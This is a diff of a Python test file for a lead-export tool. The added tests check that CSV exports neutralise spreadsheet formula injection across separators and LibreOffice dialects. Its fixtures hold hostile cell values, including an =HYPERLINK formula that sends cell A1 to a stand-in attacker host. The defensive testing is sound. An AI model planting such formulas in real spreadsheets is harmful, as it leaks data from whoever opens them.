@@ -156,8 +156,10 @@ def test_filters_campaign_since_caller(store, clock, tmp_path):
         export_optins(store, out, campaign="Nope")
     with pytest.raises(UserError, match="--since"):
         export_optins(store, out, since="last week")
-    with pytest.raises(UserError, match="does not exist"):
-        export_optins(store, tmp_path / "no" / "such" / "dir.csv")
+    # Missing folders are made owner-only; the file is 0600.
+    assert export_optins(store, tmp_path / "no" / "such" / "dir.csv") == 2
+    assert (tmp_path / "no").stat().st_mode & 0o777 == 0o700
+    assert (tmp_path / "no" / "such" / "dir.csv").stat().st_mode & 0o777 == 0o600
 
 
 def test_cli_options_and_stdout(opted, capsysbinary):
@@ -181,6 +183,36 @@ def test_neutralize_is_safe_and_exactly_reversible(value):
     assert safe[0] not in "=+-@\t\r\n"
     assert restore_cell(safe) == value
     assert restore_cell(value) == value or value.startswith("'")
+
+
+@pytest.mark.parametrize(
+    "value",
+    ["Acme;=1+1", "a,'=b", "x\n-y", "\t\t", "a;;@b", "Dupont, Martin", "r\r\n+1", "k;''-z"],
+)
+def test_no_split_of_a_neutralised_cell_starts_a_formula(value):
+    safe = neutralize_cell(value)
+    for separator in (",", ";", "\t", "\n", "\r"):
+        for piece in safe.split(separator):
+            assert not piece or piece[0] not in "=+-@", (separator, piece)
+    assert restore_cell(safe) == value
+
+
+@pytest.mark.parametrize("excel", ["yes", "no"])
+def test_hostile_names_come_back_as_written(store, tmp_path, excel):
+    from prospect_tui.core.importing import import_file
+
+    opt_in(store, HOSTILE)
+    out = tmp_path / "optins.csv"
+    assert (
+        main(
+            ["--db", str(store.path), "export", "optins", "--excel-dialect", excel, "-o", str(out)]
+        )
+        == 0
+    )
+    again = Store(tmp_path / "again.db")
+    assert import_file(again, out, campaign="Relance").imported == len(HOSTILE)
+    companies = [r[0] for r in again.conn.execute("SELECT company FROM leads ORDER BY phone_e164")]
+    assert companies == [p["company"] for p in HOSTILE]
 
 
 def test_xlsx_text_cells_frozen_filtered_header(opted, tmp_path):
@@ -231,21 +263,10 @@ def test_export_reimports_without_loss(opted, tmp_path, fmt):
 
 
 def _soffice() -> str:
-    """LibreOffice's binary, installed with apt when missing; skips only if that is impossible."""
+    """LibreOffice's binary (.ci/run installs it); without it the office tests are skipped."""
     found = shutil.which("soffice") or shutil.which("libreoffice")
-    if found:
-        return found
-    if not shutil.which("apt-get") or os.geteuid() != 0:
-        pytest.skip("LibreOffice is missing and cannot be installed here (needs apt-get as root)")
-    env = {**os.environ, "DEBIAN_FRONTEND": "noninteractive"}
-    install = ["apt-get", "install", "-y", "--no-install-recommends", "libreoffice-calc-nogui"]
-    done = subprocess.run(install, capture_output=True, text=True, env=env, timeout=1800)
-    if done.returncode != 0:  # stale or unsigned package lists: refresh once and retry
-        subprocess.run(["apt-get", "update"], capture_output=True, env=env, timeout=600)
-        done = subprocess.run(install, capture_output=True, text=True, env=env, timeout=1800)
-    found = shutil.which("soffice")
     if not found:
-        pytest.skip(f"LibreOffice could not be installed: {done.stderr.strip()[-300:]}")
+        pytest.skip("LibreOffice is not installed (.ci/run installs libreoffice-calc-nogui)")
     return found
 
 
@@ -308,3 +329,81 @@ def test_bench_export_runs(tmp_path):
         check=True,
     )
     assert "xlsx" in done.stdout and "50 rows" in done.stdout
+
+
+# Any split a reader may make: French Excel's `;`, a plain `,`, and tab.
+SPLITS = {"semicolon": "59", "comma": "44", "tab": "9"}
+HOSTILE = [
+    {"company": "Acme;=1+1", "phone": "01 42 68 53 01", "email": "a@acme.fr"},
+    {"company": "Acme,=2+2", "phone": "01 42 68 53 02", "email": "b@acme.fr"},
+    {"company": "Acme\t=3+3", "phone": "01 42 68 53 03", "email": "c@acme.fr"},
+    {"company": "Acme\n=4+4", "phone": "01 42 68 53 04", "email": "d@acme.fr"},
+    {"company": "Acme; -5+5", "phone": "01 42 68 53 05", "email": "e@acme.fr"},
+    {"company": "Acme;@SUM(1;2)", "phone": "01 42 68 53 06", "email": "f@acme.fr"},
+]
+HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1;"clic")'
+
+
+def _formula_cells(soffice: str, sources: list[Path], tmp_path: Path, split: str) -> dict:
+    """How many cells LibreOffice holds as formulas once it opened each CSV with `split`.
+
+    It evaluates formulas on import by default; re-saved as xlsx, an evaluated cell is a
+    formula cell there.
+    """
+    out = tmp_path / f"lo-{split}"
+    command = [
+        soffice,
+        f"-env:UserInstallation=file://{tmp_path / 'lo-profile'}",
+        "--headless",
+        f"--infilter=CSV:{SPLITS[split]},34,76,1",
+        "--convert-to",
+        "xlsx",
+        "--outdir",
+        str(out),
+        *map(str, sources),
+    ]
+    subprocess.run(command, capture_output=True, timeout=300, check=True)
+    found = {}
+    for source in sources:
+        book = load_workbook(out / f"{source.stem}.xlsx")
+        cells = [cell for row in book.active.iter_rows() for cell in row]
+        assert any(cell.value for cell in cells), source  # LibreOffice did read it
+        found[source.name] = sum(1 for cell in cells if cell.data_type == "f")
+    return found
+
+
+def test_libreoffice_evaluates_no_formula_in_any_dialect_or_split(store, tmp_path):
+    """Before: `--excel-dialect no` wrote `Acme;=1+1` unquoted (24 formula cells), and
+    `stats --csv` a caller named =HYPERLINK(...) as a live formula."""
+    soffice = _soffice()
+    opt_in(store, HOSTILE, caller=HYPERLINK)
+    store.conn.commit()
+    db = ["--db", str(store.path)]
+    files = {
+        "excel.csv": [*db, "export", "optins"],
+        "plain.csv": [*db, "export", "optins", "--excel-dialect", "no"],
+        "calls.csv": [*db, "export", "calls"],
+    }
+    for name, args in files.items():
+        assert main([*args, "-o", str(tmp_path / name)]) == 0
+    done = subprocess.run(
+        [sys.executable, "-m", "prospect_tui", *db, "stats", "--csv"],
+        capture_output=True,
+        check=True,
+        env={**os.environ, "PROSPECT_CONFIG": str(tmp_path / "none.toml")},
+    )
+    (tmp_path / "stats.csv").write_bytes(done.stdout)
+    assert b"HYPERLINK" in done.stdout
+    sources = [tmp_path / name for name in [*files, "stats.csv"]]
+    for split in SPLITS:
+        assert _formula_cells(soffice, sources, tmp_path, split) == dict.fromkeys(
+            (s.name for s in sources), 0
+        ), split
+
+
+def test_the_formula_counter_sees_a_live_formula(tmp_path):
+    """The check above can fail: an unneutralised cell is counted."""
+    soffice = _soffice()
+    live = tmp_path / "live.csv"
+    live.write_text("company;city\r\nAcme;=1+1\r\n", encoding="utf-8")
+    assert _formula_cells(soffice, [live], tmp_path, "semicolon") == {"live.csv": 1}
